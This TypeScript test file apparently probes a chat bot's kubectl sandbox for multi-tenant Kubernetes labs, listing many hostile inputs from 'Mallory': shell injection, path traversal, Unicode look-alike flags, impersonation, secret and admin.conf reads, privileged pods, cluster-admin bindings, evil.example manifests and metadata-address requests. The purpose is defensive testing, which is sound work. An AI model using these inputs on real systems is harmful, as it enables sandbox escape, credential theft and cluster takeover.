import type {ChatAttack} from '../attack.ts';
import {types} from '../chat-ways.ts';
import {watched} from '../outside.ts';
import type {Wall} from '../walls.ts';
import {kubectl, type World} from '../world.ts';

const otherLearners = 'other learners';
const theCluster = 'the cluster';
const rights = 'rights in the cluster';
const theBot = 'the bot’s machine';

interface Line {
  readonly name: string;
  readonly threat: string;
  readonly line: string | ((names: Names) => string);
  /** Who holds it, when it is answered and nothing is refused. */
  readonly answeredBy?: Wall;
}

const lines = (name: string, threat: string, all: readonly Line['line'][], answeredBy?: Wall): readonly Line[] =>
  all.map((line) => ({name, threat, line, ...(answeredBy === undefined ? {} : {answeredBy})}));

/** What a line may name. */
interface Names {
  /** Mallory's namespace and node. */
  readonly own: string;
  readonly node: string;
  /** Ada's namespace. */
  readonly other: string;
}

const namesIn = ({mallory, ada}: World): Names => ({own: mallory.namespace, node: mallory.node, other: ada.namespace});
/** In place of what differs from cluster to cluster. */
const placeholders: Names = {own: 'OWN', node: 'NODE', other: 'OTHER'};

const lineFor = (line: Line['line'], names: Names): string => (typeof line === 'string' ? line : line(names));

const all: readonly Line[] = [
  ...lines('another namespace, by a flag', otherLearners, [
    ({other}) => `get pods -n ${other}`,
    ({other}) => `get pods -n${other}`,
    ({other}) => `get pods --namespace=${other}`,
    ({other}) => `get pods --namespace ${other}`,
    ({other}) => `-n ${other} get pods`,
    ({other}) => `--namespace=${other} get pods`,
    ({other}) => `get pods -wn ${other}`,
    'describe pods -A',
    'get pods -Awide',
    'delete pods --all --all-namespaces=true',
    ({other}) => `get pods -n ${other}--dev`,
    ({own, other}) => `get pods -n ${own}--${other}`,
    ({other}) => `delete namespace ${other}--dev/../${other}`,
    ({other}) => `exec -n ${other} daemonset/nginx -- cat /var/log/nginx/private`,
    ({other}) => `logs daemonset/nginx -n ${other}`,
    ({other}) => `delete daemonset nginx --namespace=${other}`,
    ({other}) => `apply -f specs/nginx -n ${other}`,
    ({other}) => `patch daemonset nginx -n ${other} -p '{"spec":{"minReadySeconds":5}}'`,
    ({other}) => `rollout restart daemonset/nginx --namespace ${other}`,
    ({other}) => `label pod sleep a=b -n ${other}`,
    ({other}) => `describe pods -n ${other}`,
    ({other}) => `wait --for=delete pod/sleep -n ${other}`,
  ]),
  ...lines('another namespace, by a look-alike', otherLearners, [
    ({other}) => `get pods —namespace=${other}`,
    ({other}) => `get pods –n ${other}`,
    ({other}) => `get pods ‑‑namespace=${other}`,
    ({other}) => `get pods －－namespace=${other}`,
    ({other}) => `get pods --names\u200bpace=${other}`,
    ({other}) => `get pods -\u00adn ${other}`,
    ({other}) => `get pods "-n" "${other}"`,
    ({other}) => `get pods \\-n ${other}`,
    ({other}) => `get pods '-n${other}'`,
    ({other}) => `get pods\u00a0-n\u00a0${other}`,
    'get рods',
    'ɡet clusterroles',
    'get clusterroles\u200b',
  ]),
  ...lines('another namespace, in a name', otherLearners, [
    ({other}) => `get pod ${other}/sleep`,
    ({other}) => `get pod ../../${other}/pods/sleep`,
    ({other}) => `get pod ..%2f..%2f${other}%2fpods%2fsleep`,
    ({other}) => `get pods/../../${other}/pods`,
    'get pod .',
    'get pod ..',
    'get pod %2e%2e',
    'get pod sleep?watch=true',
    'get pod sleep#',
    'delete pod sleep/../../../namespaces/default',
    'exec pod/sleep/../../x -- id',
    'logs sleep/../../../kube-system',
    ({other}) => `describe pod sleep.${other}`,
    ({other}) => `get configmap private.${other}`,
  ]),
  ...lines(
    'another namespace, by a selector',
    otherLearners,
    [
      ({other}) => `get pods --field-selector metadata.namespace=${other}`,
      ({other}) => `get events --field-selector involvedObject.namespace=${other}`,
      ({other}) => `get pods -l 'a in (b)&fieldSelector=metadata.namespace=${other}'`,
    ],
    'API server',
  ),
  ...lines('a name from a command of the shell', otherLearners, [
    ({other}) => `get pod $(kubectl get pods -n ${other} -o jsonpath='{.items[0].metadata.name}')`,
    ({other}) => `get pod $(kubectl -n ${other} get pods -o jsonpath='{.items[0].metadata.name}')`,
    "delete node $(kubectl get nodes -o jsonpath='{.items[0].metadata.name}')",
    'get pod $(cat /etc/passwd)',
    "get pod $(kubectl get secrets -o jsonpath='{.items[0].metadata.name}')",
    'get pod `id`',
    'get pod ${HOME}',
    'get pod $HOME',
    "get pod $(kubectl get pods -o jsonpath='{.items[0].metadata.name}'; id)",
    "get pod $(kubectl get pods -o jsonpath='{.items[*].metadata.name}')",
  ]),
  ...lines('a command of the shell', theBot, [
    'get pods; id',
    'get pods && id',
    'get pods | sh',
    'get pods < /etc/passwd',
    'get pods & id',
    'get pods\nget secrets',
    '$(id)',
    '; id',
    'KUBECONFIG=/etc/kubernetes/admin.conf kubectl get secrets',
    'get pods #\n id',
    'get pods <<< id',
  ]),
  ...lines('what a line hands on to another', theCluster, [
    'run evil --image=evil.example/miner --dry-run=client -o yaml | kubectl apply -f -',
    'run evil --image=busybox:1.36 --privileged --dry-run=client -o yaml | kubectl create -f -',
    `run evil --image=busybox:1.36 --overrides='{"spec":{"hostPID":true}}' --dry-run=client -o yaml | kubectl apply -f -`,
    ({other}) => `run evil --image=busybox:1.36 --dry-run=client -o yaml | kubectl apply -n ${other} -f -`,
    'run evil --image=busybox:1.36 --dry-run=client -o yaml | kubectl apply -f - --as=admin',
    'run evil --image=busybox:1.36 --dry-run=client -o yaml | kubectl apply -f - | sh',
    'run evil --image=busybox:1.36 --dry-run=client -o yaml | kubectl apply -f -; id',
    'create rolebinding evil --clusterrole=cluster-admin --serviceaccount=default:default --dry-run=client -o yaml | kubectl apply -f -',
    'create quota sandbox --hard=pods=999 --dry-run=client -o yaml | kubectl replace -f -',
    'cat /etc/passwd | kubectl apply -f -',
    'cat ../../../package.json | kubectl create -f -',
    'get secrets -n kube-system -o yaml | kubectl apply -f -',
    'patch deployment target -p "$(cat /etc/passwd)"',
    'get pods --field-selector "$(cat ../../.env)"',
  ]),
  ...lines(
    'what a line hands on for another namespace, which goes home',
    otherLearners,
    [({other}) => `run evil --image=busybox:1.36 --dry-run=client -o yaml -n ${other} | kubectl apply -f -`],
    'policy',
  ),
  ...lines('another identity or cluster', rights, [
    'get pods --as=admin',
    'get pods --as system:serviceaccount:kube-system:default',
    'get pods --as-group=system:masters --as=x',
    'get pods --as-uid=0 --as=x',
    'get pods —as=admin',
    'get pods --context=admin',
    'get pods --cluster=other',
    'get pods --user=admin',
    'get pods --kubeconfig=/root/.kube/config',
    'get pods --kubeconfig /etc/kubernetes/admin.conf',
    'get pods --server=https://evil.example',
    'get pods -s https://evil.example',
    'get pods --token=abc',
    'get pods --insecure-skip-tls-verify',
    'get pods --certificate-authority=/etc/passwd',
    'get pods --client-key=/etc/passwd',
    'get pods --username=admin --password=admin',
    'get pods --cache-dir=/tmp',
    'get pods --v=9',
    'get pods --request-timeout=0',
  ]),
  ...lines('what no sandbox has', rights, [
    'get secret learner-token-x7k2p -o yaml',
    'describe secret default-token-x7k2p',
    'get secrets -n kube-system',
    'get secrets -n kube-public',
    'get clusterrolebindings',
    'get pods -n kube-node-lease',
    'get leases -n kube-node-lease',
    'get --raw /api/v1/secrets',
    'get --raw=/api/v1/nodes',
    'get -f https://evil.example/x.yaml',
    'describe serviceaccount learner',
    'describe namespace kube-system',
    'get pods --subresource=ephemeralcontainers',
    'get resourcequota sandbox -o yaml',
    'describe limitrange sandbox',
  ]),
  ...lines('what would change the sandbox itself', otherLearners, [
    'delete resourcequota sandbox',
    'delete limitrange sandbox',
    'delete networkpolicy sandbox',
    'edit networkpolicy sandbox',
    'label networkpolicy sandbox a=b',
    'annotate networkpolicy sandbox a=b',
    'patch networkpolicy sandbox --type merge -p \'{"spec":{"egress":[{}]}}\'',
    'delete rolebinding learner',
    'delete serviceaccount learner',
    ({own}) => `delete namespace ${own}`,
    'patch resourcequota sandbox -p \'{"spec":{"hard":{"pods":"999"}}}\'',
    'patch namespace x -p \'{"metadata":{"labels":{"a":"b"}}}\'',
    ({own}) => `annotate namespace ${own} labrador.dev/nodes=all`,
    ({own}) => `label namespace ${own} labrador.dev/workshop=x`,
    'scale resourcequota/sandbox --replicas=1',
    'edit resourcequota sandbox',
    'annotate limitrange sandbox a=b',
    'label resourcequota sandbox labrador.dev/workshop-',
    'create quota sandbox --hard=pods=999',
    'create quota evil --hard=count/networkpolicies.networking.k8s.io=0',
    'create quota evil --hard=COUNT/EVENTS=0',
    'create quota evil --hard=count/serviceaccounts=0 -n default',
    'create quota evil --hard=pods=1 --scopes=PriorityClass',
    'patch endpoints nginx-np --type merge -p \'{"subsets":[]}\'',
    'delete endpoints nginx-np',
    'delete events --all',
    'delete controllerrevisions --all',
  ]),
  ...lines('a node of the cluster', theCluster, [
    ({node}) => `delete node ${node}`,
    'delete nodes --all',
    ({node}) => `patch node ${node} -p '{"spec":{"unschedulable":true}}'`,
    ({node}) => `annotate node ${node} a=b`,
    ({node}) => `cordon ${node}`,
    ({node}) => `drain ${node}`,
    ({node}) => `taint nodes ${node} a=b:NoExecute`,
    ({node}) => `label node ${node} node-role.kubernetes.io/master=`,
    ({node}) => `label node ${node} kubernetes.io/hostname=evil --overwrite`,
    ({node}) => `label node ${node} beta.k8s.io/x=y`,
    ({node}) => `label node ${node} kubernetes.io/hostname-`,
    ({node, other}) => `label node ${node} ${other}.node.labrador.dev/disk=fast`,
    ({node, other}) => `label node ${node} a.${other}.node.labrador.dev/disk=fast`,
    ({node}) => `label node ${node} node.labrador.dev/x=y`,
    'label node not-mine a=b',
    'label node ../nodes/x a=b',
  ]),
  ...lines(
    'another sandbox, by what a node says',
    otherLearners,
    [
      'get nodes -o yaml',
      'get nodes -o json',
      'get nodes --show-labels',
      'get nodes -o wide',
      'describe nodes',
      'describe node',
      ({other}) => `get nodes -l ${other}.node.labrador.dev/disk`,
      'get nodes --field-selector spec.unschedulable=false',
    ],
    'view',
  ),
  ...lines('a node that is not in the slice', otherLearners, ['get node not-mine', 'describe node not-mine']),
  ...lines('a verb that goes past the sandbox', theCluster, [
    'attach sleep',
    'cp kube-system/coredns:/etc/coredns/Corefile x',
    'port-forward pod/sleep 8080:80',
    'proxy --port=8001',
    'debug node/lab-node -it --image=busybox:1.36',
    'debug sleep --image=busybox:1.36 --target=sleep',
    'run evil --image=busybox:1.36 --privileged',
    'run evil --image=evil.example/miner',
    `run evil --image=busybox:1.36 --overrides='{"spec":{"hostNetwork":true}}'`,
    'create token learner',
    'create clusterrolebinding evil --clusterrole=cluster-admin --serviceaccount=default:default',
    'create deployment evil --image=evil.example/miner',
    'create service externalname evil --external-name=evil.example',
    'replace --raw /api/v1/namespaces/default -f -',
    'auth can-i --list --as=admin',
    'config view --raw',
    'certificate approve evil',
    'expose pod sleep --port=80 --external-ip=10.0.0.1',
    'set env pod/sleep --from=secret/token',
    'autoscale deployment target --max=100',
    'top pods -n kube-system',
    'cluster-info dump',
    'kustomize https://evil.example/x',
    'plugin list',
    'eval id',
  ]),
  ...lines(
    'an address of the cluster’s, which is left out',
    theCluster,
    [
      'create service clusterip evil --tcp=80 --clusterip=10.96.0.1',
      'expose pod sleep --port=80 --cluster-ip=10.96.0.1',
    ],
    'policy',
  ),
  ...lines('a file of the bot’s machine', theBot, [
    'apply -f /etc/passwd',
    'apply -f ../../../../etc/passwd',
    'apply -f labs/daemonsets/../../../package.json',
    'apply -f specs/../lab.yaml',
    'apply -f lab.yaml',
    'apply -f ..',
    'apply -f -',
    'apply -f https://evil.example/x.yaml',
    'apply -f HTTP://evil.example/x.yaml',
    'apply -f file:///etc/passwd',
    'apply -f \\\\evil\\share',
    'apply -k .',
    'create -f /etc/passwd',
    'create configmap evil --from-file=/etc/passwd',
    'create configmap evil --from-file=k=../../package.json',
    'create configmap evil --from-env-file=../.env',
    'apply -f ~/.kube/config',
    'delete -f /etc/passwd',
    'patch deployment target --patch-file=/etc/passwd',
    'apply -f specs/nginx --server-side --force-conflicts --field-manager=kubelet',
    'apply -f specs/nginx --prune --all',
    'get pods -o jsonpath-file=/etc/passwd',
    'get pods -o go-template-file=/etc/passwd',
    'get pods -o jsonpath={range(1,999999999)}',
    "get pods --sort-by='{.constructor.constructor}'",
  ]),
  ...lines(
    'a field that no object has of its own',
    theBot,
    [
      'get pods -o go-template={{.}}',
      'get pods -o custom-columns=X:.spec',
      "get pods -o jsonpath='{..}{.constructor}' | grep -E '((a*)*)*b'",
      "wait pod/sleep --for=jsonpath='{.__proto__.x}'=1 --timeout=1s",
      "wait pod/sleep --for=jsonpath='{.constructor.name}'=Object --timeout=1s",
      "get pod sleep -o jsonpath='{.__proto__}{.constructor.name}'",
    ],
    'policy',
  ),
  ...lines('a part of an object that is the cluster’s', otherLearners, [
    'patch pod sleep --subresource=status -p \'{"status":{"podIP":"10.0.0.1"}}\'',
    `patch deployment target --type json -p '[{"op":"replace","path":"/kind","value":"Secret"}]'`,
    `patch deployment target --type json -p '[{"op":"replace","path":"","value":{"kind":"Secret"}}]'`,
    `patch deployment target --type json -p '[{"op":"copy","from":"","path":"/spec/template/metadata/labels/x"}]'`,
    `patch deployment target --type merge -p '{"metadata":{"namespace":"kube-system"}}'`,
    `patch deployment target -p '{"$patch":"delete"}'`,
    `patch deployment target -p '{"$patch":"replace","kind":"Secret"}'`,
    `patch deployment target --type merge -p '{"a":&a [1],"b":*a}'`,
  ]),
  ...lines(
    'a part of an object that is the cluster’s, which is left out',
    otherLearners,
    [
      `patch pod sleep --type merge -p '{"status":{"podIP":"10.0.0.1"}}'`,
      `patch deployment target --type json -p '[{"op":"replace","path":"/metadata/namespace","value":"default"}]'`,
      `patch deployment target --type merge -p '{"__proto__":{"x":1}}'`,
    ],
    'policy',
  ),
];

const typing = ({name, threat, line, answeredBy}: Line): ChatAttack => ({
  group: 'through the chat',
  name,
  threat,
  path: `/kubectl ${lineFor(line, placeholders)}`,
  ...watched(async (world) => {
    const attempt = await types(world.mallory, kubectl(lineFor(line, namesIn(world))));
    if (attempt.stoppedBy !== undefined || answeredBy === undefined) return attempt;
    return {...attempt, stoppedBy: answeredBy, evidence: 'answered with what is Mallory’s own'};
  }),
});

/** Lines of kubectl, each of which would reach out of the sandbox. */
export const hostileLines: readonly ChatAttack[] = all.map(typing);

const pages: readonly string[] = [
  '../../../../../kube-system/services/kube-dns:53/proxy/',
  '/../../secrets',
  '/%2e%2e/%2e%2e/secrets',
  '/..%2f..%2fsecrets',
  '/%252e%252e/secrets',
  '//evil.example/',
  '/\\..\\..\\secrets',
  '/http://169.254.169.254/',
  '/?x=/../../secrets',
  '/#/../../secrets',
  '/ HTTP/1.1\r\nX-Evil: 1',
  '/;..;/secrets',
];
interface OthersService {
  readonly path: string;
  readonly service: (world: World) => string;
}

const servicesOf: readonly OthersService[] = [
  {path: 'of another namespace', service: ({ada}) => `nginx-np.${ada.namespace}`},
  {path: 'by a path', service: ({ada}) => `../../${ada.namespace}/services/nginx-np`},
  {path: 'with a scheme', service: () => 'https:nginx-np'},
  {path: 'with a port', service: () => 'nginx-np:443'},
  {path: 'with the kubelet’s port', service: () => 'nginx-np:10250'},
  {path: 'by an address', service: () => '10.96.0.1'},
  {path: 'by the metadata address', service: () => '169.254.169.254'},
  {path: 'of the API server', service: () => 'kubernetes.default'},
  {path: 'by ..', service: () => '..'},
  {path: 'by an encoded ..', service: () => '%2e%2e'},
  {path: 'with a path in it', service: () => 'nginx-np/proxy/..'},
];

const browsingPage = (page: string): ChatAttack => ({
  group: 'through the chat',
  name: 'another path of the API server, by a page’s',
  threat: rights,
  path: `/browse path:${JSON.stringify(page).slice(1, -1)}`,
  ...watched(async ({mallory}) => {
    const attempt = await types(mallory, `/browse service:nginx-np path:${page}`);
    // the page of Mallory's own app, or its own "not found"
    const isOwnApp = /\*\*HTTP (?:200|400|404)\*\* from/.test(attempt.shown ?? '');
    return attempt.stoppedBy === undefined && isOwnApp
      ? {...attempt, stoppedBy: 'policy', evidence: 'Mallory’s own app answered'}
      : attempt;
  }),
});

const browsingService = ({path, service}: OthersService): ChatAttack => ({
  group: 'through the chat',
  name: 'another’s Service',
  threat: otherLearners,
  path: `/browse service: ${path}`,
  ...watched(async (world) => types(world.mallory, `/browse service:${service(world)}`)),
});

/** Pages and Services that are not Mallory's. */
export const hostilePages: readonly ChatAttack[] = [...pages.map(browsingPage), ...servicesOf.map(browsingService)];
